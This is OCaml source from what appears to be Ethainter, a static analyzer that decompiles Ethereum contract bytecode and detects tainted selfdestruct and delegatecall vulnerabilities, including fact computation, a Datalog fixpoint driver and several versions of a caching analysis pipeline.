          (fun (g : Facts.guard) ->
            guarded :=
              [| stmt_const s; var_const g.Facts.g_cond |] :: !guarded)
          gs
      end;
      match (s.s_op, s.s_args, s.s_res) with
      | TOp Op.CALLDATALOAD, _, Some r
      | TOp Op.CALLVALUE, _, Some r ->
          calldataload := [| stmt_const s; var_const r |] :: !calldataload
      | TOp Op.SLOAD, [ a ], Some r ->
          sload :=
            [| stmt_const s; slot_const facts a; var_const r |] :: !sload
      | TOp Op.SSTORE, [ a; value ], None ->
          let cls = slot_const facts a in
          sstore := [| stmt_const s; cls; var_const value |] :: !sstore;
          (match Facts.classify_slot facts a with
          | Facts.SConst _ ->
              sstore_ka := [| stmt_const s; cls |] :: !sstore_ka
          | Facts.SData _ ->
              if Hashtbl.mem facts.Facts.ds_addr a then
                sstore_ka := [| stmt_const s; cls |] :: !sstore_ka
              else
                sstore_kv :=
                  [| stmt_const s; cls; var_const a |] :: !sstore_kv
          | Facts.SUnknown -> ())
      | TOp Op.SELFDESTRUCT, [ b ], None ->
          selfd := [| stmt_const s; var_const b |] :: !selfd
      | TOp Op.DELEGATECALL, _gas :: target :: _, Some _ ->
          dcall := [| stmt_const s; var_const target |] :: !dcall
      | TOp Op.SHA3, _, Some r -> (
          match s.s_sha3_args with
          | Some hashed ->
              List.iter
                (fun a ->
                  infoflow := [| var_const a; var_const r |] :: !infoflow)
                hashed
          | None -> ())
      | TOp Op.MLOAD, [ off ], Some r -> (
          match const_of p off with
          | Some o -> (
              match Hashtbl.find_opt mem_writes o with
              | Some srcs ->
                  List.iter
                    (fun src ->
                      infoflow :=
                        [| var_const src; var_const r |] :: !infoflow)
                    srcs
              | None -> ())
          | None -> ())
      | (TOp _ | TPhi), args, Some r
        when (match s.s_op with
             | TOp op -> Analysis.propagates_through op
             | TPhi -> true
             | _ -> false) ->
          List.iter
            (fun a -> infoflow := [| var_const a; var_const r |] :: !infoflow)
            args
      | _ -> ())
    (stmts p);
  [ ("calldataload", !calldataload); ("defines", !defines);
    ("infoflow", !infoflow); ("guarded", !guarded);
    ("any_guard", !any_guard); ("guard_reads", !guard_reads);
    ("sstore", !sstore); ("sstore_key_attacker", !sstore_ka);
    ("sstore_keyvar", !sstore_kv); ("sload", !sload);
    ("selfdestruct", !selfd); ("delegatecall", !dcall);
    ("stmt", !stmts_rel) ]

(* guard_reads is filled separately (needs the slices) *)
let export_guard_reads (facts : Facts.t) : D.tuple list =
  let acc = ref [] in
  Hashtbl.iter
    (fun _ gs ->
      List.iter
        (fun (g : Facts.guard) ->
          List.iter
            (fun (_, cls) ->
              let c =
                match cls with
                | Facts.SConst x -> D.Sym ("slot:" ^ U.to_hex x)
                | Facts.SData b -> D.Sym ("data:" ^ U.to_hex b)
                | Facts.SUnknown -> D.Sym "slot:?"
              in
              acc := [| var_const g.Facts.g_cond; c |] :: !acc)
            (Facts.guard_storage_reads facts g.Facts.g_cond))
        gs)
    facts.Facts.known_true;
  !acc

(** Run the declarative analysis to the outer fixpoint. [?strategy]
    picks the engine evaluator (default planned; the benchmarks use it
    to compare against the reference evaluators). *)
let run ?(strategy = D.Planned) (facts : Facts.t) : verdicts =
  let base_facts = export_facts facts in
  let base_facts =
    List.map
      (fun (n, t) ->
        if n = "guard_reads" then (n, export_guard_reads facts) else (n, t))
      base_facts
  in
  (* one program for every outer round: the rule set never changes
     between rounds (only the nonsan_in EDB does), so the planner
     compiles the rules exactly once and every re-solve reuses the
     cached plan *)
  let prog = build_round () in
  let nonsan = ref [] in
  let result = ref None in
  let stable = ref false in
  let rounds = ref 0 in
  while (not !stable) && !rounds < 20 do
    incr rounds;
    let db =
      D.solve ~strategy prog (("nonsan_in", !nonsan) :: base_facts)
    in
    let out = D.relation db "nonsan_out" in
    if List.length out = List.length !nonsan then begin
      stable := true;
      result := Some db
    end
    else nonsan := out
  done;
  let db =
    match !result with
    | Some db -> db
    | None -> D.solve ~strategy prog (("nonsan_in", !nonsan) :: base_facts)
  in
  let pcs rel =
    D.relation db rel
    |> List.filter_map (fun t ->
           match t.(0) with D.Int i -> Some i | _ -> None)
    |> List.sort_uniq compare
  in
  { d_reachable_selfdestruct = pcs "violation_sd_reach";
    d_tainted_selfdestruct = pcs "violation_sd_taint";
    d_tainted_delegatecall = pcs "violation_dc" }

(** Convenience: analyze runtime bytecode declaratively. *)
let analyze_runtime ?strategy (runtime : string) : verdicts =
  run ?strategy (Facts.compute (Ethainter_tac.Decomp.decompile runtime))
