(** Re-export of {!Ethainter_runtime.Deadline} so the cancellation
    layer is addressable as [Ethainter_core.Deadline] (the runtime
    library sits below [lib/tac] and [lib/datalog] only so their hot
    loops can poll it). *)

include Ethainter_runtime.Deadline
