(** Taint-independent facts over the TAC program.

    These correspond to the "previous stratum" relations of Fig. 2: the
    sender-keyed data-structure relations DS/DSA (Fig. 4), storage
    location classification (the ConstValue / StorageAliasVar roles),
    guard discovery (which [JUMPI] conditions dominate which blocks),
    and backward slices of guard conditions. They are all computed
    before — and do not depend on — taint propagation. *)

module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
module Deadline = Ethainter_runtime.Deadline
open Ethainter_tac
open Tac

(** Classification of a storage address operand. *)
type slot_class =
  | SConst of U.t  (** statically-known constant slot *)
  | SData of U.t   (** element of a data structure rooted at this slot
                       (mapping/array, address derived by hashing) *)
  | SUnknown       (** statically unresolved *)

let slot_class_to_string = function
  | SConst c -> "slot " ^ U.to_hex c
  | SData b -> "data-structure @ slot " ^ U.to_hex b
  | SUnknown -> "unknown slot"

(** May two storage accesses alias? Conservative on [SUnknown] only
    when [conservative] is set (Fig. 8c ablation). *)
let may_alias ?(conservative = false) (a : slot_class) (b : slot_class) =
  match (a, b) with
  | SConst x, SConst y -> U.equal x y
  | SData x, SData y -> U.equal x y
  | SUnknown, _ | _, SUnknown -> conservative
  | SConst _, SData _ | SData _, SConst _ -> false

type guard = {
  g_cond : var;      (** the condition variable, in positive polarity *)
  g_jumpi_pc : int;  (** the JUMPI statement *)
}

type t = {
  program : program;
  doms : Dominators.t;
  sender_derived : (var, unit) Hashtbl.t;
      (** DS(x) of Fig. 4: x holds data keyed by / equal to the caller *)
  ds_addr : (var, U.t) Hashtbl.t;
      (** DSA(x): x is the address of a sender-keyed data-structure
          element; the value is the root slot of the structure *)
  data_addr : (var, U.t) Hashtbl.t;
      (** like [ds_addr] but for *any* key (not necessarily sender):
          hash-derived addresses with a known root slot *)
  known_true : (int, guard list) Hashtbl.t;
      (** block -> conditions that must hold to reach it *)
  guard_slice : (var, VarSet.t) Hashtbl.t;
      (** condition var -> backward value slice (through arithmetic,
          comparisons, phis; not through loads) *)
  sender_scrutiny : (var, bool) Hashtbl.t;
      (** condition var -> does its slice scrutinize the sender?
          Precomputed for every sliced guard: the question is asked
          per guard per protected statement by the taint fixpoint,
          the detectors and the fact exporter, so answering it from
          the slice each time was a hot-path scan *)
}

let program t = t.program

(* Backward slice of a condition through "value" operations. We stop
   at loads, hashes, calls and constants: those are the slice's
   frontier. *)
let compute_slice (p : program) (root : var) : VarSet.t =
  let seen = ref VarSet.empty in
  let rec go v =
    Deadline.poll ();
    if not (VarSet.mem v !seen) then begin
      seen := VarSet.add v !seen;
      match def p v with
      | None -> ()
      | Some s -> (
          match s.s_op with
          | TPhi -> List.iter go s.s_args
          | TOp
              ( Op.EQ | Op.ISZERO | Op.AND | Op.OR | Op.XOR | Op.NOT
              | Op.LT | Op.GT | Op.SLT | Op.SGT | Op.ADD | Op.SUB
              | Op.MUL | Op.DIV | Op.MOD | Op.SHL | Op.SHR | Op.SAR
              | Op.BYTE | Op.SIGNEXTEND | Op.EXP ) ->
              List.iter go s.s_args
          | _ -> ())
    end
  in
  go root;
  !seen

(* ------------------------------------------------------------------ *)
(* DS / DSA (Fig. 4)                                                   *)
(* ------------------------------------------------------------------ *)

let compute_ds (p : program) =
  let sender_derived : (var, unit) Hashtbl.t = Hashtbl.create 32 in
  let ds_addr : (var, U.t) Hashtbl.t = Hashtbl.create 32 in
  let data_addr : (var, U.t) Hashtbl.t = Hashtbl.create 32 in
  let changed = ref true in
  let add_ds v =
    if not (Hashtbl.mem sender_derived v) then begin
      Hashtbl.replace sender_derived v ();
      changed := true
    end
  in
  let add_dsa v b =
    if Hashtbl.find_opt ds_addr v <> Some b then begin
      Hashtbl.replace ds_addr v b;
      changed := true
    end
  in
  let add_da v b =
    if Hashtbl.find_opt data_addr v <> Some b then begin
      Hashtbl.replace data_addr v b;
      changed := true
    end
  in
  let all = stmts p in
  while !changed do
    changed := false;
    List.iter
      (fun s ->
        (* the DS/DSA fixpoint re-scans every statement until quiescent
           — on large programs this is a front-end hot loop the
           deadline must be able to cut *)
        Deadline.poll ();
        match (s.s_op, s.s_res) with
        (* DS-SenderKey: CALLER is sender data. ORIGIN identifies the
           transaction originator and is treated the same way (tx.origin
           guards scrutinize the caller chain; flagging them anyway
           would drown the analysis in origin-pattern warnings). *)
        | TOp (Op.CALLER | Op.ORIGIN), Some r -> add_ds r
        | TOp Op.SHA3, Some r -> (
            (* DS-Lookup / DSA-Lookup: hash of sender data (the mapping
               key) at a known root slot. Our decompiler resolves
               scratch hashing to [key; slot] sequences. *)
            match s.s_sha3_args with
            | Some args ->
                (* root slot: last hashed word if constant; otherwise,
                   if the last word is itself a data address, chain to
                   its root (nested mappings). *)
                let root =
                  match List.rev args with
                  | last :: _ -> (
                      match const_of p last with
                      | Some c -> Some c
                      | None -> (
                          match Hashtbl.find_opt data_addr last with
                          | Some b -> Some b
                          | None -> Hashtbl.find_opt ds_addr last))
                  | [] -> None
                in
                (match root with
                | Some b ->
                    add_da r b;
                    (* sender-keyed if any hashed word is DS or DSA *)
                    if
                      List.exists
                        (fun a ->
                          Hashtbl.mem sender_derived a
                          || Hashtbl.mem ds_addr a)
                        args
                    then add_dsa r b
                | None -> ())
            | None ->
                (* Unresolved hash: if any operand of an MSTORE in the
                   same block before this SHA3 was sender-derived, we
                   over-approximate DSA with an unknown root. We encode
                   unknown roots as the max word (no real slot). *)
                ())
        (* DS-AddrOp: arithmetic on data-structure addresses *)
        | TOp (Op.ADD | Op.SUB), Some r ->
            List.iter
              (fun a ->
                (match Hashtbl.find_opt ds_addr a with
                | Some b -> add_dsa r b
                | None -> ());
                match Hashtbl.find_opt data_addr a with
                | Some b -> add_da r b
                | None -> ())
              s.s_args
        (* DSA-Load: loading through a sender-keyed address yields
           sender data *)
        | TOp Op.SLOAD, Some r -> (
            match s.s_args with
            | [ a ] -> if Hashtbl.mem ds_addr a then add_ds r
            | _ -> ())
        (* AND with the address mask etc. preserves sender-ness *)
        | TOp Op.AND, Some r ->
            if List.exists (fun a -> Hashtbl.mem sender_derived a) s.s_args
            then add_ds r
        | TPhi, Some r ->
            if List.for_all (fun a -> Hashtbl.mem sender_derived a) s.s_args
               && s.s_args <> []
            then add_ds r
        | _ -> ())
      all
  done;
  (sender_derived, ds_addr, data_addr)

(* ------------------------------------------------------------------ *)
(* Guard discovery                                                     *)
(* ------------------------------------------------------------------ *)

(* For a JUMPI in block B with condition c:
   - blocks dominated by the taken target T (when T's only predecessor
     is B) can assume c true;
   - blocks dominated by the fall-through F (when F's only predecessor
     is B) can assume c false; if c = ISZERO(c'), they assume c' true.
   This covers both the require-pattern (JUMPI to the continuation,
   fall-through reverts) and the if-pattern (ISZERO; JUMPI to else). *)
let compute_guards (p : program) (doms : Dominators.t) :
    (int, guard list) Hashtbl.t =
  let known : (int, guard list) Hashtbl.t = Hashtbl.create 32 in
  let add b g =
    let cur = match Hashtbl.find_opt known b with Some l -> l | None -> [] in
    if not (List.exists (fun g' -> g'.g_cond = g.g_cond) cur) then
      Hashtbl.replace known b (g :: cur)
  in
  Hashtbl.iter
    (fun entry (b : block) ->
      Deadline.poll ();
      match List.rev b.b_stmts with
      | ({ s_op = TOp Op.JUMPI; s_args = [ tgt; cond ]; _ } as j) :: _ ->
          let fall_pc =
            (* fall-through block: next block boundary after the JUMPI *)
            j.s_pc + 1
          in
          let targets =
            const_set p tgt
            |> List.filter_map U.to_int_opt
            |> List.filter (fun t -> Hashtbl.mem p.p_blocks t)
          in
          let protect target_pc positive =
            match block p target_pc with
            | Some tb when tb.b_preds = [ entry ] ->
                let conds =
                  if positive then [ cond ]
                  else
                    (* c false; if c = ISZERO(c'), then c' holds *)
                    match def p cond with
                    | Some { s_op = TOp Op.ISZERO; s_args = [ c' ]; _ } ->
                        [ c' ]
                    | _ -> []
                in
                List.iter
                  (fun c ->
                    List.iter
                      (fun d -> add d { g_cond = c; g_jumpi_pc = j.s_pc })
                      (Dominators.dominated_by doms target_pc))
                  conds
            | _ -> ()
          in
          List.iter (fun t -> protect t true) targets;
          if Hashtbl.mem p.p_blocks fall_pc && List.mem fall_pc b.b_succs
          then protect fall_pc false
      | _ -> ())
    p.p_blocks;
  known

(* ------------------------------------------------------------------ *)
(* Assembly                                                            *)
(* ------------------------------------------------------------------ *)

(* Does a condition's slice involve a sender-derived value — directly,
   or via a load through a sender-keyed address? (Uguard-NDS, negated.) *)
let slice_scrutinizes_sender (p : program) sender_derived ds_addr
    (slice : VarSet.t) : bool =
  VarSet.exists
    (fun v ->
      Hashtbl.mem sender_derived v
      ||
      match def p v with
      | Some { s_op = TOp Op.SLOAD; s_args = [ a ]; _ } ->
          Hashtbl.mem ds_addr a
      | _ -> false)
    slice

let compute (p : program) : t =
  let doms = Dominators.compute p in
  let sender_derived, ds_addr, data_addr = compute_ds p in
  let known_true = compute_guards p doms in
  let guard_slice = Hashtbl.create 32 in
  Hashtbl.iter
    (fun _ gs ->
      List.iter
        (fun g ->
          if not (Hashtbl.mem guard_slice g.g_cond) then
            Hashtbl.replace guard_slice g.g_cond (compute_slice p g.g_cond))
        gs)
    known_true;
  let sender_scrutiny = Hashtbl.create 32 in
  Hashtbl.iter
    (fun cond slice ->
      Hashtbl.replace sender_scrutiny cond
        (slice_scrutinizes_sender p sender_derived ds_addr slice))
    guard_slice;
  { program = p; doms; sender_derived; ds_addr; data_addr; known_true;
    guard_slice; sender_scrutiny }

(** Slot class of a storage address operand. *)
let classify_slot (t : t) (addr : var) : slot_class =
  match const_of t.program addr with
  | Some c -> SConst c
  | None -> (
      match Hashtbl.find_opt t.data_addr addr with
      | Some b -> SData b
      | None -> SUnknown)

(* Guard conditions are all pre-sliced by {!compute}; the fallback
   recomputes without memoizing because a [t] can be shared read-only
   across scheduler domains (the pipeline's front-end cache hands the
   same fact database to every ablation config), and a concurrent
   [Hashtbl.replace] would be a data race. *)
let slice_of (t : t) (cond : var) : VarSet.t =
  match Hashtbl.find_opt t.guard_slice cond with
  | Some s -> s
  | None -> compute_slice t.program cond

(** Does the condition scrutinize the contract caller? (Uguard-NDS,
    negated: a guard that involves no sender-derived value — directly
    or via data-structure lookup — fails to sanitize.) Answered from
    the table precomputed by {!compute}; the fallback re-derives from
    the slice without memoizing (a [t] is shared read-only across
    scheduler domains). *)
let scrutinizes_sender (t : t) (cond : var) : bool =
  match Hashtbl.find_opt t.sender_scrutiny cond with
  | Some b -> b
  | None ->
      slice_scrutinizes_sender t.program t.sender_derived t.ds_addr
        (slice_of t cond)

(** Storage reads appearing in a guard's slice, with their classes.
    These are the candidate "owner variables": slots whose content the
    guard trusts (§4.5 sink inference). *)
let guard_storage_reads (t : t) (cond : var) : (var * slot_class) list =
  VarSet.fold
    (fun v acc ->
      match def t.program v with
      | Some { s_op = TOp Op.SLOAD; s_args = [ a ]; s_res = Some r; _ } ->
          (r, classify_slot t a) :: acc
      | _ -> acc)
    (slice_of t cond)
    []
  @ (* the condition may itself be a load (e.g. require(admins[k])) *)
  (match def t.program cond with
  | Some { s_op = TOp Op.SLOAD; s_args = [ a ]; s_res = Some r; _ } ->
      [ (r, classify_slot t a) ]
  | _ -> [])

(** Storage reads compared for {e equality} against a sender-derived
    value inside the guard's slice — the §4.5 inferred sinks ("a
    variable that determines a potentially-sanitizing guard is by
    itself a sink": a GUARD over a sender-equality predicate whose
    compared variable aliases storage). Note that data-structure
    membership guards like [require(admins[msg.sender])] do *not* make
    their base slot a sink: §4.5's rule requires the sender-equality
    shape. *)
let sender_eq_storage_reads (t : t) (cond : var) : (var * slot_class) list =
  VarSet.fold
    (fun v acc ->
      match def t.program v with
      | Some { s_op = TOp Op.EQ; s_args = [ a; b ]; _ } ->
          let read_of x other =
            if Hashtbl.mem t.sender_derived other then
              match def t.program x with
              | Some { s_op = TOp Op.SLOAD; s_args = [ addr ]; s_res = Some r; _ }
                ->
                  Some (r, classify_slot t addr)
              | _ -> None
            else None
          in
          let acc = match read_of a b with Some x -> x :: acc | None -> acc in
          (match read_of b a with Some x -> x :: acc | None -> acc)
      | _ -> acc)
    (slice_of t cond)
    []

(** Guards protecting a statement (empty when the statement's block has
    no dominating sender-relevant branches). *)
let guards_of_stmt (t : t) (s : stmt) : guard list =
  match Hashtbl.find_opt t.known_true s.s_block with
  | Some gs -> gs
  | None -> []
