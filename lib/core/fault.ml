(** Re-export of {!Ethainter_runtime.Fault} as
    [Ethainter_core.Fault]; see deadline.ml for why the
    implementation lives in the runtime library. *)

include Ethainter_runtime.Fault
