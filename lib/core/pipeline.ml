(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. This is the per-contract unit of work that the
    paper runs over the whole blockchain (§6: "a combined cutoff of 120
    seconds for decompilation and the information flow analysis").

    {!run} is the single entry point; see pipeline.mli for the request
    and caching contract. *)

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
}

let empty_result =
  { reports = []; tac_loc = 0; blocks = 0; analysis_rounds = 0;
    elapsed_s = 0.0; timed_out = false; error = None }

(* The exceptions a malformed contract is expected to produce while
   being decompiled and analyzed. Anything else — Out_of_memory,
   Stack_overflow, Assert_failure, ... — is a bug or a resource
   failure and must propagate to the caller (the scheduler isolates it
   per contract). *)
let expected_failure = function
  | Ethainter_evm.Interp.Evm_error _
  | Ethainter_evm.Bytecode.Asm_error _
  | Ethainter_datalog.Datalog.Datalog_error _
  | Invalid_argument _ | Failure _ | Not_found -> true
  | _ -> false

(* The uncached analysis. [timeout_s] mimics the paper's cutoff: we
   check elapsed wall-clock between phases (decompilation / analysis)
   and give up, flagging a timeout, when exceeded. *)
let analyze_uncached ~(cfg : Config.t) ~(timeout_s : float)
    (runtime : string) : result =
  let t0 = Unix.gettimeofday () in
  let over () = Unix.gettimeofday () -. t0 > timeout_s in
  try
    let p = Ethainter_tac.Decomp.decompile runtime in
    if over () then { empty_result with timed_out = true }
    else
      let facts = Facts.compute p in
      if over () then { empty_result with timed_out = true }
      else
        let a = Analysis.run ~cfg facts in
        let reports = Analysis.detect a in
        { reports; tac_loc = Ethainter_tac.Tac.loc p;
          blocks = List.length (Ethainter_tac.Tac.blocks p);
          analysis_rounds = a.Analysis.rounds;
          elapsed_s = Unix.gettimeofday () -. t0; timed_out = false;
          error = None }
  with e when expected_failure e ->
    { empty_result with elapsed_s = Unix.gettimeofday () -. t0;
      error = Some (Printexc.to_string e) }

(* ------------------------------------------------------------------ *)
(* Result codec (disk-tier serialization)                              *)
(* ------------------------------------------------------------------ *)

(* A versioned, self-validating text format: a header line, the scalar
   fields, then length-prefixed strings for the fields that may contain
   arbitrary bytes (error messages, report notes). [decode_result] is
   total — any deviation is [None], which the cache treats as a
   miss. *)

let codec_magic = "ethainter.result.v1"

let encode_result (r : result) : string =
  let b = Buffer.create 256 in
  Buffer.add_string b codec_magic;
  Buffer.add_char b '\n';
  Printf.bprintf b "meta %d %d %d %h %b\n" r.tac_loc r.blocks
    r.analysis_rounds r.elapsed_s r.timed_out;
  (match r.error with
  | None -> Buffer.add_string b "error -1\n"
  | Some e -> Printf.bprintf b "error %d\n%s\n" (String.length e) e);
  Printf.bprintf b "reports %d\n" (List.length r.reports);
  List.iter
    (fun (rep : Vulns.report) ->
      Printf.bprintf b "report %s %d %d %b %b %d\n%s\n"
        (Vulns.kind_id rep.Vulns.r_kind)
        rep.Vulns.r_pc rep.Vulns.r_block rep.Vulns.r_orphan
        rep.Vulns.r_composite
        (String.length rep.Vulns.r_note)
        rep.Vulns.r_note)
    r.reports;
  Buffer.contents b

let decode_result (s : string) : result option =
  let pos = ref 0 in
  let fail () = raise Exit in
  let line () =
    match String.index_from_opt s !pos '\n' with
    | None -> fail ()
    | Some i ->
        let l = String.sub s !pos (i - !pos) in
        pos := i + 1;
        l
  in
  (* an [n]-byte string followed by its terminating newline *)
  let sized n =
    if n < 0 || !pos + n + 1 > String.length s then fail ();
    let x = String.sub s !pos n in
    if s.[!pos + n] <> '\n' then fail ();
    pos := !pos + n + 1;
    x
  in
  let words l = String.split_on_char ' ' l in
  let int_of w = match int_of_string_opt w with Some n -> n | None -> fail () in
  let float_of w =
    match float_of_string_opt w with Some f -> f | None -> fail ()
  in
  let bool_of w = match bool_of_string_opt w with Some x -> x | None -> fail () in
  try
    if line () <> codec_magic then fail ();
    let tac_loc, blocks, analysis_rounds, elapsed_s, timed_out =
      match words (line ()) with
      | [ "meta"; a; b; c; d; e ] ->
          (int_of a, int_of b, int_of c, float_of d, bool_of e)
      | _ -> fail ()
    in
    let error =
      match words (line ()) with
      | [ "error"; "-1" ] -> None
      | [ "error"; n ] -> Some (sized (int_of n))
      | _ -> fail ()
    in
    let nreports =
      match words (line ()) with
      | [ "reports"; n ] -> int_of n
      | _ -> fail ()
    in
    if nreports < 0 then fail ();
    let reports =
      List.init nreports (fun _ ->
          match words (line ()) with
          | [ "report"; kid; pc; block; orphan; composite; notelen ] ->
              let r_kind =
                match Vulns.kind_of_id kid with
                | Some k -> k
                | None -> fail ()
              in
              { Vulns.r_kind; r_pc = int_of pc; r_block = int_of block;
                r_orphan = bool_of orphan; r_composite = bool_of composite;
                r_note = sized (int_of notelen) }
          | _ -> fail ())
    in
    if !pos <> String.length s then fail ();
    Some { reports; tac_loc; blocks; analysis_rounds; elapsed_s; timed_out;
           error }
  with _ -> None

(* ------------------------------------------------------------------ *)
(* The process-wide result cache                                       *)
(* ------------------------------------------------------------------ *)

(* Stamped into every cache key: bump on any change to decompilation,
   facts, the fixpoint or the detectors. *)
let analysis_version = "2"

let cache_capacity_default = 8192

(* Lazily created so [set_cache_dir] / env vars take effect before the
   first analysis; the mutex makes first-use from concurrent scheduler
   domains safe. *)
let cache_mu = Mutex.create ()
let cache_on = ref (Sys.getenv_opt "ETHAINTER_NO_CACHE" = None)
let cache_dir_ref = ref (Sys.getenv_opt "ETHAINTER_CACHE_DIR")
let cache_ref : result Cache.t option ref = ref None

let with_cache_mu f =
  Mutex.lock cache_mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock cache_mu) f

let cache () =
  with_cache_mu (fun () ->
      match !cache_ref with
      | Some c -> c
      | None ->
          let capacity =
            match Sys.getenv_opt "ETHAINTER_CACHE_CAPACITY" with
            | Some s -> (
                match int_of_string_opt (String.trim s) with
                | Some n when n >= 1 -> n
                | _ -> cache_capacity_default)
            | None -> cache_capacity_default
          in
          let c =
            Cache.create ~capacity ?dir:!cache_dir_ref
              ~encode:encode_result ~decode:decode_result ()
          in
          cache_ref := Some c;
          c)

let cache_enabled () = !cache_on
let set_cache_enabled b = cache_on := b

let set_cache_dir d =
  with_cache_mu (fun () ->
      cache_dir_ref := d;
      cache_ref := None)

let cache_stats () = Cache.stats (cache ())
let cache_clear () = Cache.clear (cache ())

(* ------------------------------------------------------------------ *)
(* Requests                                                            *)
(* ------------------------------------------------------------------ *)

type input = Runtime of string | Hex of string

type request = {
  code : input;
  cfg : Config.t;
  timeout_s : float;
}

let request ?(cfg = Config.default) ?(timeout_s = 120.0) code =
  { code; cfg; timeout_s }

let resolve_input = function
  | Runtime code -> Ok code
  | Hex hex -> (
      match Ethainter_word.Hex.decode (String.trim hex) with
      | code -> Ok code
      | exception Invalid_argument msg -> Error msg)

let run (req : request) : result =
  match resolve_input req.code with
  | Error msg -> { empty_result with error = Some msg }
  | Ok runtime ->
      if not (cache_enabled ()) then
        analyze_uncached ~cfg:req.cfg ~timeout_s:req.timeout_s runtime
      else
        let key =
          Cache.key ~version:analysis_version
            ~fingerprint:(Config.fingerprint req.cfg) runtime
        in
        let c = cache () in
        (* A hit is only valid if this request's budget exceeds the
           time the cached computation actually took — a tighter budget
           might have timed out, and the timeout tests rely on that. *)
        match Cache.find c key with
        | Some r when r.elapsed_s < req.timeout_s -> r
        | _ ->
            let r =
              analyze_uncached ~cfg:req.cfg ~timeout_s:req.timeout_s runtime
            in
            (* Timed-out results depend on wall-clock and machine load,
               not content — never cache them. *)
            if not r.timed_out then Cache.add c key r;
            r

(* Deprecated thin wrappers, kept so existing call sites (and external
   users) survive; all analysis flows through {!run}. *)
let analyze_runtime ?cfg ?timeout_s (runtime : string) : result =
  run (request ?cfg ?timeout_s (Runtime runtime))

let analyze_hex ?cfg ?timeout_s (hex : string) : result =
  run (request ?cfg ?timeout_s (Hex hex))

let flagged_kinds (r : result) : Vulns.kind list =
  List.sort_uniq compare (List.map (fun x -> x.Vulns.r_kind) r.reports)

let flags (r : result) (k : Vulns.kind) : bool =
  List.exists (fun x -> x.Vulns.r_kind = k) r.reports
