(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. This is the per-contract unit of work that the
    paper runs over the whole blockchain (§6: "a combined cutoff of 120
    seconds for decompilation and the information flow analysis"). *)

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
}

let empty_result =
  { reports = []; tac_loc = 0; blocks = 0; analysis_rounds = 0;
    elapsed_s = 0.0; timed_out = false; error = None }

(* The exceptions a malformed contract is expected to produce while
   being decompiled and analyzed. Anything else — Out_of_memory,
   Stack_overflow, Assert_failure, ... — is a bug or a resource
   failure and must propagate to the caller (the scheduler isolates it
   per contract). *)
let expected_failure = function
  | Ethainter_evm.Interp.Evm_error _
  | Ethainter_evm.Bytecode.Asm_error _
  | Ethainter_datalog.Datalog.Datalog_error _
  | Invalid_argument _ | Failure _ | Not_found -> true
  | _ -> false

(** Analyze runtime bytecode. [timeout_s] mimics the paper's cutoff:
    we check elapsed wall-clock between phases (decompilation /
    analysis) and give up, flagging a timeout, when exceeded. *)
let analyze_runtime ?(cfg = Config.default) ?(timeout_s = 120.0)
    (runtime : string) : result =
  let t0 = Unix.gettimeofday () in
  let over () = Unix.gettimeofday () -. t0 > timeout_s in
  try
    let p = Ethainter_tac.Decomp.decompile runtime in
    if over () then { empty_result with timed_out = true }
    else
      let facts = Facts.compute p in
      if over () then { empty_result with timed_out = true }
      else
        let a = Analysis.run ~cfg facts in
        let reports = Analysis.detect a in
        { reports; tac_loc = Ethainter_tac.Tac.loc p;
          blocks = List.length (Ethainter_tac.Tac.blocks p);
          analysis_rounds = a.Analysis.rounds;
          elapsed_s = Unix.gettimeofday () -. t0; timed_out = false;
          error = None }
  with e when expected_failure e ->
    { empty_result with elapsed_s = Unix.gettimeofday () -. t0;
      error = Some (Printexc.to_string e) }

(** Convenience: analyze a contract given as hex-encoded runtime
    bytecode (the format of blockchain dumps). *)
let analyze_hex ?cfg ?timeout_s (hex : string) : result =
  analyze_runtime ?cfg ?timeout_s (Ethainter_word.Hex.decode hex)

let flagged_kinds (r : result) : Vulns.kind list =
  List.sort_uniq compare (List.map (fun x -> x.Vulns.r_kind) r.reports)

let flags (r : result) (k : Vulns.kind) : bool =
  List.exists (fun x -> x.Vulns.r_kind = k) r.reports
