(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. This is the per-contract unit of work that the
    paper runs over the whole blockchain (§6: "a combined cutoff of 120
    seconds for decompilation and the information flow analysis").

    {!run} is the single entry point; see pipeline.mli for the request
    and caching contract. *)

(* Coarse failure taxonomy, stable across codec versions: corpus
   reports need to distinguish "ran out of budget" from "hostile
   bytecode" from "the machine failed us". *)
module U = Ethainter_word.Uint256

type error_kind = Timeout | Decode | Decompile | Analysis | Io | Fatal

let error_kind_id = function
  | Timeout -> "timeout"
  | Decode -> "decode"
  | Decompile -> "decompile"
  | Analysis -> "analysis"
  | Io -> "io"
  | Fatal -> "fatal"

let error_kind_of_id = function
  | "timeout" -> Some Timeout
  | "decode" -> Some Decode
  | "decompile" -> Some Decompile
  | "analysis" -> Some Analysis
  | "io" -> Some Io
  | "fatal" -> Some Fatal
  | _ -> None

(* The on-chain facts a verdict consumed, recorded so a streaming
   consumer can decide whether a later block's storage writes
   invalidate it. The analysis reads storage only through guard
   slices (require(msg.sender == owner), admins[msg.sender], ...), so
   those slots are the verdict's entire storage footprint. *)
type deps = {
  dep_slots : U.t list;
      (* constant storage slots read in guard slices, sorted *)
  dep_roots : U.t list;
      (* data-structure root slots (mappings/arrays) read in guard
         slices, sorted — a write to any hash-derived member may
         change the guard's meaning *)
  dep_unknown : bool;
      (* some guard read an unresolved slot: any write to this
         contract may invalidate the verdict *)
}

(* Failure verdicts (and mid-phase timeouts) never ran the analysis to
   completion, so their footprint is unknown: the conservative default
   makes any write re-queue them, which is sound and gives timeouts a
   chance to succeed later. *)
let conservative_deps = { dep_slots = []; dep_roots = []; dep_unknown = true }

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
  error_kind : error_kind option;
      (** classification of the failure; [Some Timeout] iff
          [timed_out] *)
  deps : deps;
}

let empty_result =
  { reports = []; tac_loc = 0; blocks = 0; analysis_rounds = 0;
